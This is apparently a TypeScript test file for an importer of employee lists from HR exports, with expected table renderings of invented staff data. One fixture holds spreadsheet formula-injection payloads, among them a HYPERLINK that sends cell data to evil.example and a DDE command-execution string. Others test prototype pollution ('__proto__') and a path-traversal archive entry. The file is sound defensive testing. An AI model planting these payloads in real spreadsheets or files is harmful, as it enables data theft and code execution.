import { describe, expect } from 'vitest';
import { readSource } from '../../../src/importing/tables/readSource.ts';
import { itOnRealFile } from '../../support/realData.ts';
import { tablePicture } from '../../support/tablePicture.ts';

/** Lists of invented people with the oddities of real ones; what each is made of stands beside them. */
function reads(file: string, picture: string): void {
  itOnRealFile(`of ${file}`, `mini/${file}`, async (bytes) => {
    expect(`\n${tablePicture(await readSource(bytes))}\n`).toBe(picture);
  });
}

describe('the table', () => {
  reads(
    '02-currency-na.csv',
    `
text utf-8 ,
1: Agency | Employee | Job Title | Original Hire Date | Annual Base Salary | Overtime | Organization
2: Environment and Energy - Agency 84 | Marit R Hennink  | Envir Quality Program Spec Ii | 2001-09-01T00:00:00Z | $55,103.04 | -$1,166.78 | State Employees
3: Environment and Energy - Agency 84 | Olu Bassey | Envir Quality Program Spec Ii | 2011-02-14T00:00:00Z | $51,000.00 | NA | State Employees
4: Health & Human Services - Agency 25 | Mirte Anne Leisner  | Teacher (SCATA Contract) | 2017-08-02T00:00:00Z | $42,032.00 | -$374.85 | State Employees
5: Health & Human Services - Agency 25 | Na Li | Nurse | 2019-01-07T00:00:00Z | $61,500.00 | NA | State Employees
6: Health & Human Services - Agency 25 | Jen Null | Nurse | 2018-03-05T00:00:00Z | $60,100.00 | $2,000.10 | State Employees
7: Labor - Agency 23 | Elias H Caan  | JT Program Coordinator | 2014-02-25T00:00:00Z | $47,084.48 | -$26.00 | State Employees
8: Labor - Agency 23 | NA | JT Program Coordinator | NA | $47,084.48 | NA | State Employees
9: Labor - Agency 23 | Rosa True | Manager | 2003-11-30T00:00:00Z | ($1,000.00) | NA | State Employees
10: NA | Tom Undecided | Auditor | 1984-03-01T00:00:00Z | $50,028.96 | NA | State Employees
11: Health & Human Services  -  Agency 25 | Dirk Post | Nurse | 2020-06-01T00:00:00Z | $58,000.00 | NA | State Employees
`,
  );

  reads(
    '04-entra-users.csv',
    `
text utf-8 ,
1: userPrincipalName | displayName | surname | mail | givenName | id | userType | jobTitle | department | accountEnabled | usageLocation | streetAddress | state | country | officeLocation | city | postalCode | telephoneNumber | mobilePhone | alternateEmailAddress | ageGroup | consentProvidedForMinor | legalAgeGroupClassification | companyName | creationType | directorySynced | invitationState | identityIssuer | createdDateTime
2: ann@example.org | Ann Lee | Lee | ann.lee@example.org | Ann | 7cc0c81b-0000-4000-8000-000000000001 | Member | Engineer | Payments | True | NL |  |  | Netherlands |  | Utrecht |  |  |  |  |  |  |  |  |  | True |  | example.onmicrosoft.com | 8/19/2021 1:25:31 PM
3: bob@example.org |  | Stone |  | Bob | 7cc0c81b-0000-4000-8000-000000000002 | Member | Engineer | Payments | True | NL |  |  |  |  |  |  |  |  |  |  |  |  |  |  | True |  | example.onmicrosoft.com | 8/19/2021 1:25:31 PM
4: carl_other.com#EXT#@example.onmicrosoft.com | Carl Gast (Extern) |  | carl@other.com |  | 7cc0c81b-0000-4000-8000-000000000003 | Guest |  |  | True |  |  |  |  |  |  |  |  |  | carl@other.com |  |  |  | Other BV | Invitation |  | Accepted | other.com | 12/31/2022 11:59:59 PM
5: dora@example.org | Dor, Dora | Dor | dora@example.org | Dora | 7cc0c81b-0000-4000-8000-000000000004 | Member | Product Owner | payments  | False | NL |  |  |  |  |  |  |  |  |  |  |  |  |  |  | True |  | example.onmicrosoft.com | 1/2/2020 9:00:00 AM
6: test@example.org | =3+1 | =3+1 |  | =3+1 | 7cc0c81b-0000-4000-8000-000000000005 | Member |  |  | True |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  | example.onmicrosoft.com | 8/19/2021 3:02:10 PM
7: room-2@example.org | Zaal 2.14 (8 pers.) |  | room-2@example.org |  | 7cc0c81b-0000-4000-8000-000000000006 | Member |  |  | False |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  | example.onmicrosoft.com | 3/4/2019 8:00:00 AM
8: svc-backup@example.onmicrosoft.com | svc backup |  |  |  | 7cc0c81b-0000-4000-8000-000000000007 | Member |  |  | True |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  |  | example.onmicrosoft.com | 3/4/2019 8:00:00 AM
9: eve@example.org | Eve Ng | Ng | eve@example.org | Eve | 7cc0c81b-0000-4000-8000-000000000008 | Member | Engineer | Cards/Ledger | True | NL |  |  |  |  |  |  | +31 6 12345678 |  |  |  |  |  |  |  | True |  | example.onmicrosoft.com | 8/19/2021 1:25:31 PM
10: eve2@example.org | Eve Ng | Ng | eve2@example.org | Eve | 7cc0c81b-0000-4000-8000-000000000009 | Member | Designer | Cards | True | NL |  |  |  |  |  |  |  |  |  |  |  |  |  |  | True |  | example.onmicrosoft.com | 8/19/2021 1:25:31 PM
`,
  );

  reads(
    '06-workday-unicode.txt',
    `
text utf-16le tab
1: Worker Report - as of 09/01/2026
2: Organization: Retail (inherited)
4: Worker | Business Title | Supervisory Organization | Worker Type | FTE % | Hire Date | Active Status
5: Ruiz, Ana (10012) | Engineering Manager | Retail (Bea Ochoa) | Employee | 100% | 01/10/2012 | Yes
6: Ochoa, Bea (00813) | VP Retail | Executive (Ola Dahl) | Employee | 100% | 03/15/2019 | Yes
7: Díaz, Cal (00931) (On Leave) | Engineer | Payments (Ana Ruiz) | Employee | 80% | 07/01/2024 | Yes
8: Roe, Fay (00977) (Terminated) | Engineer | Payments (Ana Ruiz) | Employee | 100% | 01/10/2020 | No
9: Lam, Eve [C] (C0044) | Engineer | Payments (Ana Ruiz) | Contingent Worker |  | 02/03/2025 | Yes
10: Park, Dee (00978) | Engineer "L3" | Payments (Ana Ruiz) | Employee | 60% | 02/03/2025 | Yes
11: Ruiz, Ana (10455) | Designer | Cards (Ana Ruiz) | Employee | 100% | 05/05/2025 | Yes
12: P-00412 Engineer (Unfilled) | Engineer | Cards (Ana Ruiz) - JM
13: Total |  |  |  |  |  | 8
`,
  );

  reads(
    '07-successfactors-udf.csv',
    `
text utf-8 ,
1: STATUS | USERID | USERNAME | FIRSTNAME | LASTNAME | MI | GENDER | EMAIL | MANAGER | HR | DEPARTMENT | JOBCODE | DIVISION | LOCATION | TIMEZONE | HIREDATE | EMPID | TITLE | MATRIX_MANAGER
2: Status | User ID | Username | First Name | Last Name | Middle Name | Gender | Email | Manager | Human Resource | Department | Job Code | Division | Location | Time Zone | Hire Date | Employee ID | Title | Matrix Manager
3: active | 000101 | cdahl | Christa | Dahl |  | F | cdahl@example.org | NO_MANAGER | NO_HR | Board (10001) | BRD | Retail (R) | Utrecht (UTR) | Europe/Amsterdam | 01/15/2010 | 000101 | Head of Retail
4: active | 000102 | jbos | Jip | Bos | K | M | jbos@example.org | 101 | 000101 | Payments (10200) | ENG | Retail (R) | Utrecht (UTR) | Europe/Amsterdam | 13/02/2015 | 000102 | Engineering lead
5: active | 000103 | mnys | Mo | Nys |  | M | mnys@example.org | 102 | 000101 | Payments (10200) | ENG | Retail (R) | Utrecht (UTR) | Europe/Amsterdam | 02/13/2015 | 000103 | Engineer | 101
6: active | 000104 | sli | Shu | Li |  | F | sli@example.org | 000102 | 000101 | Payments (10200) | ENG | Retail (R) | Gent (GNT) | Europe/Brussels | 02/13/2019 | 000104 | Engineer | 000107;000101
7: inactive | 000105 | old | Oud | Gediende |  | M | old@example.org | 000102 | 000101 | Payments (10200) | ENG | Retail (R) | Utrecht (UTR) | Europe/Amsterdam | 02/13/2011 | 000105 | Engineer
8: active | 000106 | kpo | Kim | Pó |  |  | kpo@example.org | NO_MANAGER | NO_HR | Cards (10300) | PO | Retail (R) | Utrecht (UTR) | Europe/Amsterdam | 06/01/2020 | 000106 | Product Owner
9: active_external | X00107 | ext1 | Zed | Externe |  |  | zed@vendor.example | 102 |  | Cards (10300) | ENG | Retail (R) |  |  |  | X00107 | Consultant
10: external_suite | 000108 | ext2 | Bo | Bij |  |  |  | 106 |  | Cards (10300) | ENG | Retail (R) |  |  |  | 000108 | Engineer
`,
  );

  reads(
    '08-afas-cp1252.csv',
    `
text windows-1252 ;
2: Medewerker | Roepnaam | Voorvoegsels | Achternaam | Geboortenaam | Functie | Afdeling | Team | Leidinggevende | FTE | Salaris | Datum in dienst | Datum uit dienst
3: 000041 | Renée | van der | Berg |  | Productowner | Wonen | Hypotheek – app |  | 1,00 | € 5.123,45 | 01-02-2012
4: 000042 | Daniël | de | Groot |  | Ontwikkelaar | Wonen | Hypotheek – app | 41 | 0,50 | € 2.000,00 | 01-03-2015
5: 000042 | Daniël | de | Groot |  | Ontwikkelaar | Wonen | Inzicht | 41 | 0,30 | € 1.200,00 | 01-09-2020
6: 000043 | Els | in ’t | Veld | Jansen | Tester | Wonen | Hypotheek – app | 41 | 0,8889 | € 3.456,78 | 15-08-2018
7: 000044 | Bjørn |  | Håland-de Vries |  | Ontwikkelaar | Wonen | Inzicht | 42 | ,8 | € 3.999,00 | 01-01-2019 | 31-12-2024
8: 000045 | Fatima | el | Amrani |  | Data-analist | Dagelijks | Betalen | 41 | 0 | € 0,00 | 01-01-2027
9: 000046 | Jan |  | Jansen |  | Ontwikkelaar | Dagelijks | Betalen | 45 | 1 | € 3.000,00 | 01-01-2019
10: 000047 | Jan |  | Jansen |  | Ontwikkelaar | Dagelijks | Betalen | 45 | 1 | € 3.100,00 | 01-01-2021
11: 000048 | Zoë | van | Dam |  | Chapterlead ontwikkeling | Dagelijks | Betalen | 48 | 0,9 | € 4.100,00 | 01-01-2021
12: Totaal |  |  |  |  |  |  |  |  | 6,39 | € 25.979,23
`,
  );

  reads(
    '09-fte-notations.csv',
    `
text utf-8 ;
1: Naam | Team | FTE / uren
2: Aad Appel | Appels | 0,8
3: Bea Boom | Appels | 80%
4: Cas Cel | Appels | 32 uren
5: Dre Dam | Appels | 32/40
6: Eef Eik | Appels | 4 dgn
7: Fay Fok | Appels | fulltime
8: Gia Gal | Appels | 1.0
9: Hub Hof | Appels | 36
10: Ids Ink | Appels | ½
11: Jet Jol | Appels | 0.8 fte
12: Kai Kok | Appels
13: Lot Lam | Appels | n.v.t.
14: Mik Mol | Appels | 1,2
15: Noa Nel | Appels | -0,5
16: Oda Oud | Appels | 80
17: Pim Pas | Appels | 40:00
18: Qi Qua | Appels | 0,8 / 0,2
19: Ria Rek | Appels | 1.000,00
`,
  );

  reads(
    '10-personio-de.csv',
    `
text utf-8 ;
1: Personalnummer | Nachname | Vorname | Status | Anstellungsart | Position | Abteilung | Team | Vorgesetzter | Wochenstunden | Einstellungsdatum | Austrittsdatum
2: 1001 | Müller | Jörg | aktiv | Festangestellt | Leiter Entwicklung | Entwicklung | Zahlung |  | 40 | 01.03.2014
3: 1002 | Müller | Anke | aktiv | Festangestellt | Entwicklerin | Entwicklung | Zahlung / Karten | Müller, Jörg | 32 | 15.06.2018
5: 1003 | Weiß | Gül | Elternzeit | Festangestellt | Entwicklerin | Entwicklung | Karten | Müller, Jörg | 30,5 | 01.09.2020
6: 1004 | N.N. |  | offen | Festangestellt | Entwickler:in | Entwicklung | Karten | Müller, Jörg | 40 | 01.01.2027
7: 1005 | Öztürk | Ümit | aktiv | Freelancer | Entwickler | Entwicklung | Karten | MÜLLER, JÖRG |  | 01.05.2025 | 31.12.2026
8: 1006 | Groß | Ina | ausgeschieden | Festangestellt | Product Owner | Produkt | Zahlung | Müller, Jörg | 40 | 01.03.2014 | 30.06.2024
9: 1007 | GROSS | Ina | aktiv | Festangestellt | Product Owner | Produkt | Zahlung | Müller, Jörg | 40 | 01.07.2024
10: 1008 | Weiss | Gül | aktiv | Werkstudent | Testerin | Qualität | Zahlung; Karten | Weiß, Gül | 20 | 01.10.2025
11: 1009 | unbesetzt |  |  |  |  | Qualität | Zahlung
`,
  );

  reads(
    '12-teams-in-a-cell.csv',
    `
text utf-8 ,
1: Name | Chapter | Team(s) | Role
2: Ann Aal | Backend | Mortgage app (Home)
3: Bo Beek | Backend | Mortgage app (Home); Insight (Home)
4: Cis Cop | Frontend | Mortgage  App (home) | Product Owner
5: Dia Dok | Frontend | Mortgage app (Home) / Insight (Home)
7: Eda Eng | Data | Insight (Home) / Payments (Daily)
8: Fed Fay | Platform | CI/CD (Platform)
9: Gus Gil | Platform | CI/CD (Platform) / Payments (Daily) | PO
10: Hal Hop | Data | Payments (Daily), Insight (Home)
11: Ivo Ink | Data | Payments (Daily) 60% + Insight (Home) 40%
12: Jan Jas | Backend | Payments & Cards (Daily)
13: Kes Kop |  | - | Agile coach
14: Lia Lub | QA | Payments (EU) (Daily)
15: Moe Mak | QA | tbd
`,
  );

  reads(
    '13-managers-broken.csv',
    `
text utf-8 ,
1: Emp No | Name | Team | Manager No | Manager
2: 00012 | Ada Aas | Alpha
3: 00013 | Bob Bik | Alpha | 12
4: 00014 | Cem Cas | Alpha | 00013
5: 00015 | Dee Dam | Beta | 16
6: 00016 | Eli Egg | Beta | 15
7: 00017 | Fay Fin | Beta | 17
8: 00018 | Gus Gum | Beta | 99999
9: 00019 | Jan Jansen | Beta | 12
10: 00020 | Jan Jansen | Gamma | 12
11: 00021 | Hed Hof | Gamma |  | Jan Jansen
12: 00022 | Ion Ill | Gamma |  | Aas, Ada
13: 00013 | Bob Bik | Gamma | 12
14: 12 | Zac Zon | Gamma | 00013
15: 1.2E+01 | Exp Onent | Gamma
16: 00023 | Kay Kay | Gamma | 00012 | Bob Bik
`,
  );

  reads(
    '14-vacancies-jobshare.csv',
    `
text utf-8 ;
1: Naam | Squad | Chapter | Rol | Soort
2: Vacature | Alpha | Backend | Ontwikkelaar
3: VACANCY - Backend (2x) | Alpha | Backend | Developer
4: TBD | Alpha | Frontend
5: N.N. | Beta | Data | Analist
6: Open | Beta | Data | Analist | vacature
7: Joe Open | Beta | Data | Analist | vast
8: Jan de Vries / Piet Bakker | Beta |  | Product owner | vast
9: A. Jansen & B. Smit (50/50) | Gamma |  | Product owner | vast
10: Chris Evers (extern) | Alpha | Backend | Ontwikkelaar | inhuur
11: Dana Fox | Gamma | Data | Analist | ZZP
12: Eef Gaal | Gamma | Data | Analist | intern
13: Fie Hal | Gamma | Data | Analist | stagiair
14: Gré Ikes (tot 1-12) | Gamma | Backend | Ontwikkelaar | vast
15: Hans Jol* | Gamma | Backend | Ontwikkelaar | vast
16: * met pensioen per 1 januari
17: Niet ingevuld | Gamma | Backend
18: ?? | Alpha | Backend
`,
  );

  reads(
    '16-formula-injection.csv',
    `
text utf-8 ,
1: Name | Team | Phone | Note
2: =HYPERLINK("http://evil.example/?x="&A1) | Alpha | +31 6 1234 | =cmd|' /C calc'!A0
3: +Plus Person | -Minus team | -5 | @SUM(1+1)
4: @handle | Alpha | (06) 12 | →=1+1
5: Ann Aal | Alpha | '0612 | ="a"&"b"
6: - | Alpha
7: 'Quoted | Alpha
`,
  );

  reads(
    '19-pasted-list.txt',
    `
text utf-8 no separator
1: Ann Aal, Office Manager
2: Bo Beek→Bookkeeper
3: Cis Cop - Server
4: Dia Dok – Chief Happiness Wrangler
6: - Ed Eel
7: • Fi Fox (Design)
8: 1. Gus Gil
9: hal.hop@example.org
10: Ida Ink <ida@example.org>; Joe Jam <joe@example.org>
`,
  );

  reads(
    '20-sap-list.xls',
    `
web-page utf-8
1: Pers.No. | Name | Org.Unit
2: 00000041 | Renée van der Berg | Payments & Cards
3: 00000042 | Bo Beek | Payments & Cards
`,
  );

  reads(
    'x1-title-rows.xlsx',
    `
workbook
[A]
1: CITY  OF  VOORBEELD
2: EMPLOYEE  LISTING  AS  OF  07/15/2014
4: LAST NAME | FIRST NAME | MIDDLE NAME | CLASSIFICATION | DEPARTMENT | HIRE DATE | ANNUALIZED BASE PAY
5: RUSTEN | ANNA | A | CITY SECRETARY | CITY SECRETARY | 1952-04-28 | 109000
6: JOON | JAN | L | RECREATION ASSISTANT | PARKS & RECREATION | 1998-03-30 | 22700
7: NOORMAN | BEN | W | POLICE SERGEANT | POLICE | 1958-12-29 | 78100
8: BUENO GONZALEZ | JESUS | ALFREDO | LIFEGUARD | PARKS & RECREATION | 2014-07-02 | 22000
9: ABRIL | REY |  | LIFEGUARD | PARKS & RECREATION | 2014-07-02 | 22000
10: DAVIDS | PERNEL | ADO | COUNCIL SECRETARY (EXE LEV) | COUNCILS' OFFICE | 2014-07-01 | 38000
11: SPIJ | IVA |  | LIFEGUARD | PARKS & RECREATION | 07/01/2014 | 22500
`,
  );

  reads(
    'x10-proto.xlsx',
    `
workbook
[__proto__]
1: __proto__ | constructor | Naam | Naam
2: a | b | Bo | Beek
`,
  );

  reads(
    'x11-encrypted.xlsx',
    `
refused: password
`,
  );

  reads(
    'x2-two-sheets-hidden.xlsx',
    `
workbook
[Employees]
1: as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026 | as_of_date=15 สิงหาคม 2026
2: emp_id | name_th | name_en | nickname | position | dept_id | reports_to | start_date | extra_1
3: 168001 | ธีรา ตัวอย่าง | Theera Tuayang | นี | Managing Director | OGC |  | 2025-01-06
4: 168002 | สมชาย ทดสอบ | Somchai Thodsob | ชาย | Head of Engineering | OGC-100 | 168001 | 2020-02-29
5: 168003 | มาลี ดี | Malee Dee | ลี | Engineer | OGC-110 | 168002 | 2021-05-01
6: 168004 | กร ใจ | Korn Jai | กร | Engineer | OGC-110 | 168002 | 2021-05-01
7: 168005 | อร ทอง | Orn Thong | อร | Designer | OGC-120 | 168002 | 2022-05-01
8:  |  | ตำแหน่งว่าง (vacant) |  | Designer | OGC-120 | 168002
9: 168007 | พร มา | Porn Ma | พร | Buyer | OGC-900 | 168001 | 2022-05-01
[Departments]
1: dept_id | dept_name | dept_name_en | parent_dept_id | level_order | color_hex
2: OGC | บริษัท | Company |  | 1 | #1A1A1A
3: OGC-100 | วิศวกรรม | Engineering | OGC | 2 | #444444
4: OGC-110 | แก้ว | Glass line | OGC-100 | 3 | #444444
5: OGC-120 | ออกแบบ | Design studio | OGC-100 | 3 | #444444
- hidden-row Employees 6
- hidden-column Employees D
- merged Employees 8
- hidden-sheet _lists
- empty-sheet Blad3
`,
  );

  reads(
    'x4-rich-text-formulas.xlsx',
    `
workbook
[Mensen & teams]
1: Personeelsnr | Naam | Team | Inzet | Start | Uren
2: 00042 | Renée van der Berg | Alpha | 0.8 | 2024-01-01 | 32:00
3: 00043 | 山田 太郎 | Alpha | 0.8 | 2024-01-01 18:00
4: #N/A | #N/A | #DIV/0! | TRUE | 1900-02-28 | 1900-03-01
7:  | Bo Beek |  | 1
- far-column Mensen & teams XFD
- merged Mensen & teams 1
`,
  );

  reads(
    'x5-inlinestr.xlsx',
    `
workbook
[Sheet0]
1: Worker | Supervisory Organization | FTE | Hire Date
2: Ruiz, Ana (10012) | Retail (Bea Ochoa) | 1 | 45292
3: Lam, Eve [C] (C0044) |  | 0.6
4: Dee <Park> & co | Payments (Ana Ruiz) | 0.8 | 2025-02-03
`,
  );

  reads(
    'x7-strict.xlsx',
    `
workbook
[Blad1]
1: Naam | Start
2: Bo Beek | 2024-01-01
3: Bo Beek | 2024-01-01
`,
  );

  reads(
    'x9-hostile.xlsx',
    `
refused: damaged at ../../evil.txt
`,
  );
});
